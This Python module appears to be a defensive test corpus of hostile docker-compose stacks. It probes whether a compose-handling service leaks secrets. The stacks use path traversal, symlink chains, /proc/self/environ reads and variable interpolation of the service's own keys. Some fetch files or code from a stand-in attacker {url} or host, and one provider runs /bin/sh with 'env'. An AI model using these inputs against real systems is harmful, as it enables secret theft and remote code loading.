"""Stacks that try to read what is not theirs, each by one way. Written by an attacker who knows compose well.

`{...}` stands for a place with a planted secret: `{home}`, `{key}`, `{environ}` (a process' environment),
`{neighbour}` (another fleet's file), `{url}` (a server of the attacker's), `{name}` (a variable of the service's
environment), `{up}` (the way from a stack's folder to the root of any file system).
"""

from __future__ import annotations

from typing import NamedTuple


class Link(NamedTuple):
    """A symbolic link to `target`."""

    target: str


Files = dict[str, "str | bytes | Link"]
COMPOSE = "docker-compose.yml"
_APP = "services:\n  app:\n    image: app:1\n"


def _app(lines: str, **more: str | bytes | Link) -> Files:
    """A stack with one service; `more` are files beside it."""
    indented = "".join(f"    {line}\n" for line in lines.splitlines())
    return {COMPOSE: _APP + indented} | _beside(more)


def _beside(more: Files) -> Files:
    """Files named by keywords: `sub__a_dot_yml` is sub/a.yml."""
    return {name.replace("__", "/").replace("_dot_", ".").replace("_h_", "-"): body for name, body in more.items()}


def _whole(text: str, **more: str | bytes | Link) -> Files:
    return {COMPOSE: text} | _beside(more)


INTERPOLATION: dict[str, Files] = {
    "variable-in-image": _whole("services:\n  app:\n    image: app:${{{name}}}\n"),
    "variable-in-environment": _app("environment:\n  SEEN: ${{{name}}}"),
    "variable-without-braces": _app("labels:\n  seen: $!{name}"),
    "variable-with-default": _app("labels:\n  seen: ${{{name}:-nothing}}"),
    "variable-alternative": _app("labels:\n  seen: ${{{name}:+${{{name}}}}}"),
    "variable-nested-in-default": _app("labels:\n  seen: ${{NOBODY_SETS_THIS:-${{{name}}}}}"),
    "variable-in-an-error": _app("labels:\n  seen: ${{NOBODY_SETS_THIS:?${{{name}}}}}"),
    "variable-required": _app("labels:\n  seen: ${{{name}:?it is not set}}"),
    "variable-in-a-bad-port": _app("ports: ['${{{name}}}:80']"),
    "variable-in-a-bad-number": _app("mem_limit: ${{{name}}}"),
    "variable-in-a-name": _whole("name: ${{{name}}}\n" + _APP),
    "variable-in-a-key-of-a-volume": _app("volumes: ['data:/${{{name}}}']") | {"x": ""},
    "variable-passed-on": _app("environment: [{name}]"),
    "variable-passed-on-as-null": _app("environment:\n  {name}:"),
    "variable-passed-to-a-build": _app("build:\n  context: .\n  args: [{name}]", Dockerfile="FROM scratch\n"),
    "variable-in-an-extension": _whole("x-all: &all\n  seen: ${{{name}}}\n" + _APP + "    labels: *all\n"),
    "variable-in-an-inline-config": _whole(
        "configs:\n  c:\n    content: ${{{name}}}\n" + _APP + "    configs: [c]\n"
    ),
    "variable-by-a-config-of-the-environment": _whole(
        "configs:\n  c:\n    environment: {name}\n" + _APP + "    configs: [c]\n"
    ),
    "variable-by-a-secret-of-the-environment": _whole(
        "secrets:\n  s:\n    environment: {name}\n" + _APP + "    secrets: [s]\n"
    ),
    "variable-through-dot-env": _app("labels:\n  seen: ${{MINE}}", _dot_env="MINE=${{{name}}}\n"),
    "variable-through-an-env-file": _app("env_file: mine.env", mine_dot_env="MINE=${{{name}}}\n"),
    "variable-through-an-env-file-of-an-include": _whole(
        "include:\n  - path: other/compose.yml\n    env_file: mine.env\n",
        mine_dot_env="MINE=${{{name}}}\n",
        other__compose_dot_yml=_APP + "    labels:\n      seen: ${{MINE}}\n",
    ),
    "variable-of-the-service": _app(
        "labels:\n  a: ${{GITHUB_APP_PRIVATE_KEY}}\n  b: ${{GITHUB_WEBHOOK_SECRET}}\n  c: ${{AIOS_BOT_DATABASE_URL}}"
    ),
    "variable-in-a-profile": _app("profiles: ['${{{name}}}']", _dot_env="COMPOSE_PROFILES=${{{name}}}\n"),
    "variable-in-the-project": _app("hostname: x", _dot_env="COMPOSE_PROJECT_NAME=${{{name}}}\n"),
    "variable-in-a-broken-dot-env": _app("hostname: x", _dot_env='MINE="${{{name}}}\nBROKEN\n'),
    "variable-that-ends-nowhere": _app("labels:\n  seen: ${{{name}"),
}


def _files(kind: str, place: str) -> dict[str, Files]:
    """Every way to name a file, for one planted file."""
    return {
        f"{kind}-by-env-file": _app(f"env_file: {place}"),
        f"{kind}-by-raw-env-file": _app(f"env_file:\n  - path: {place}\n    format: raw\n    required: false"),
        f"{kind}-by-include": _whole(f"include: [{place}]\n" + _APP),
        f"{kind}-by-extends": _app(f"extends:\n  file: {place}\n  service: app"),
        f"{kind}-by-label-file": _app(f"label_file: {place}"),
        f"{kind}-by-climbing": _app("env_file: {up}" + place),
        f"{kind}-by-link": _app("env_file: mine.env", mine_dot_env=Link(place)),
        f"{kind}-by-linked-dot-env": _app("labels:\n  seen: ${{PLANTED}}", _dot_env=Link(place)),
        f"{kind}-by-linked-compose-file": {COMPOSE: Link(place)},
    }


FILES: dict[str, Files] = {
    **_files("home", "{home}"),
    **_files("key", "{key}"),
    **_files("environ", "{environ}"),
    **_files("neighbour", "{neighbour}"),
}

ODD_PATHS: dict[str, Files] = {
    "a-tilde": _app("env_file: ~/planted.env"),
    "a-home-variable": _app("env_file: ${{HOME}}/planted.env"),
    "a-default-that-is-a-path": _app("env_file: ${{NOBODY_SETS_THIS:-{home}}}"),
    "a-path-from-dot-env": _app("env_file: ${{WHERE}}", _dot_env="WHERE={home}\n"),
    "a-path-in-two-halves": _app("env_file: ${{A}}${{B}}", _dot_env="A=/\nB=..{home}\n"),
    "an-address-of-a-file": _whole("include: ['file://{home}']\n" + _APP),
    "a-linked-folder": _app("env_file: mine/planted.env", mine=Link("{home_folder}")),
    "a-chain-of-links": _app("env_file: a", a=Link("b"), b=Link("c"), c=Link("{home}")),
    "a-link-that-climbs": _app("env_file: a", a=Link("{up}{home}")),
    "an-escaped-slash": _app('env_file: "\\u002f..{home}"'),
    "a-folded-path": _app("env_file: >-\n  {home}"),
    "an-alias-of-a-path": _whole("x-p: &p {home}\n" + _APP + "    env_file: *p\n"),
    "a-merge-of-a-path": _whole("x-e: &e\n  env_file: {home}\n" + _APP + "    <<: *e\n"),
    "a-second-document": _whole(_APP + "---\n" + _APP + "    env_file: {home}\n"),
    "a-compose-file-in-utf-16": {COMPOSE: (_APP + "    env_file: {home}\n").encode("utf-16")},
    "a-reset-tag": _app("env_file: !override [{home}]"),
    "a-path-in-an-override-file": _app(
        "hostname: x", docker_h_compose_dot_override_dot_yml=_APP + "    env_file: {home}\n"
    ),
    "an-include-of-an-include": _whole(
        "include: [a.yml]\n", a_dot_yml="include: [b.yml]\n", b_dot_yml="include:\n  - path: {home}\n"
    ),
    "a-project-directory": _whole(
        "include:\n  - path: a.yml\n    project_directory: {home_folder}\n",
        a_dot_yml=_APP + "    env_file: planted.env\n",
    ),
    "an-env-file-of-an-include": _whole(
        "include:\n  - path: a.yml\n    env_file: {home}\n",
        a_dot_yml=_APP + "    labels:\n      seen: ${{PLANTED}}\n",
    ),
    "an-extended-service-elsewhere": _app(
        "extends:\n  file: sub/a.yml\n  service: app", sub__a_dot_yml=_APP + "    env_file: {home}\n"
    ),
    "a-compose-file-by-dot-env": _app("hostname: x", _dot_env="COMPOSE_FILE={home}\n"),
    "env-files-by-dot-env": _app("labels:\n  seen: ${{PLANTED}}", _dot_env="COMPOSE_ENV_FILES={home}\n"),
    "a-config-file": _whole("configs:\n  c:\n    file: {home}\n" + _APP + "    configs: [c]\n"),
    "a-secret-file": _whole("secrets:\n  s:\n    file: {key}\n" + _APP + "    secrets: [s]\n"),
    "a-dockerfile": _app("build:\n  context: .\n  dockerfile: {home}"),
    "a-build-context": _app("build: {home_folder}"),
    "a-credential-spec": _app("credential_spec:\n  file: {home}"),
    "standard-input": _app("env_file: /dev/stdin"),
    "an-open-file": _app("env_file: /dev/fd/3"),
    "an-own-process": _app("env_file: /proc/self/environ"),
    "the-root-of-a-process": _app("env_file: /proc/1/root{home}"),
    "a-mirror-beside": _app("env_file: {up}{mirrors}/planted.env"),
    "a-file-that-is-no-yaml": _whole("include:\n  - {home}\nservices: [\n"),
}

NETWORK: dict[str, Files] = {
    "an-include-over-http": _whole("include: ['{url}/compose.yml']\n" + _APP),
    "an-include-over-git": _whole("include: ['{url}/planted.git']\n" + _APP),
    "an-include-over-git-with-a-branch": _whole("include: ['git@{host}:planted.git#main:sub']\n" + _APP),
    "an-include-of-an-artifact": _whole("include: ['oci://{host}/planted:1']\n" + _APP),
    "an-extension-over-http": _app("extends:\n  file: {url}/compose.yml\n  service: app"),
    "an-env-file-over-http": _app("env_file: {url}/planted.env"),
    "a-build-over-git": _app("build: {url}/planted.git"),
    "a-build-context-of-another-name": _app(
        "build:\n  context: .\n  additional_contexts:\n    more: {url}/planted.git", Dockerfile="FROM scratch\n"
    ),
    "an-engine-elsewhere": _app("hostname: x", _dot_env="DOCKER_HOST=tcp://{host}\nDOCKER_CONTEXT=planted\n"),
    "telemetry-elsewhere": _app("hostname: x", _dot_env="OTEL_EXPORTER_OTLP_ENDPOINT={url}\nHTTP_PROXY={url}\n"),
    "remotes-switched-on": _whole(
        "include: ['{url}/planted.git']\n" + _APP,
        _dot_env="COMPOSE_EXPERIMENTAL_GIT_REMOTE=true\nCOMPOSE_EXPERIMENTAL_OCI_REMOTE=true\n",
    ),
    "a-provider-that-runs": _whole(
        "services:\n  app:\n    provider:\n      type: /bin/sh\n      options:\n        c: env\n"
    ),
}

OWN: dict[str, Files] = {
    "own-env-file": _app("env_file: mine.env", mine_dot_env="DB_PASSWORD={own}\nPLAIN={own}\n"),
    "own-dot-env-in-an-image": _whole(
        "services:\n  app:\n    image: app:${{DB_PASSWORD}}\n", _dot_env="DB_PASSWORD={own}\n"
    ),
    "own-dot-env-in-a-command": _app("command: run --password ${{DB_PASSWORD}}", _dot_env="DB_PASSWORD={own}\n"),
    "own-dot-env-in-an-error": _app("labels:\n  a: ${{NOBODY:?${{DB_PASSWORD}}}}", _dot_env="DB_PASSWORD={own}\n"),
    "own-dot-env-in-a-bad-port": _app("ports: ['${{DB_PASSWORD}}:80']", _dot_env="DB_PASSWORD={own}\n"),
    "own-env-file-that-is-broken": _app("env_file: mine.env", mine_dot_env='DB_PASSWORD="{own}\nno end'),
    "own-dot-env-that-is-broken": _app("hostname: x", _dot_env="DB_PASSWORD='{own}\nno end"),
    "own-secret-in-a-label-file": _app("label_file: mine.labels", mine_dot_labels="token={own}\n"),
    "own-secret-in-an-address": _app("environment:\n  DATABASE_URL: postgres://app:{own}@db/app"),
    "own-secret-in-an-argument": _app("command: [run, --token, '{own}']"),
    "own-secret-in-an-inline-config": _whole(
        "configs:\n  c:\n    content: |\n      password = {own}\n" + _APP + "    configs: [c]\n"
    ),
    "own-secret-as-a-build-argument": _app(
        "build:\n  context: .\n  args:\n    API_TOKEN: {own}", Dockerfile="FROM scratch\n"
    ),
    "own-secret-in-a-number-that-is-none": _app("environment:\n  DB_PASSWORD: {own}\ncpus: much"),
    "own-secret-in-an-env-file-with-export": _app("env_file: mine.env", mine_dot_env="export API_KEY={own}\n"),
}

CORPUS: dict[str, Files] = INTERPOLATION | FILES | ODD_PATHS | NETWORK | OWN


def plant(files: Files, places: dict[str, str]) -> Files:
    """`files` with the planted places written in."""

    def fill(text: str) -> str:
        # `$!{name}` is a variable without braces: `${name}` would read as one with braces.
        for place, value in places.items():
            text = text.replace("{" + place + "}", value)
        return text.replace("$!", "$").replace("{{", "{").replace("}}", "}")

    def one(body: str | bytes | Link) -> str | bytes | Link:
        if isinstance(body, Link):
            return Link(fill(body.target))
        if isinstance(body, bytes):
            return fill(body.decode("utf-16")).encode("utf-16")
        return fill(body)

    return {name: one(body) for name, body in files.items()}
